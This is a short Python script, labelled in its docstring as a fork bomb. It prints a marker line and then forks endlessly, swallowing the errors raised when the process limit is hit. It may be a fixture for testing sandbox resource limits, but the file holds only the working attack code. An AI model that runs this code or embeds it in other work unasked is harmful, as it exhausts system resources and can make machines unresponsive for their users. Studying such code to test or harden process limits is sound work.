"""A fork bomb: every process forks for ever; a failed fork (the process limit) is shrugged off."""
import os

print("BOMB", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
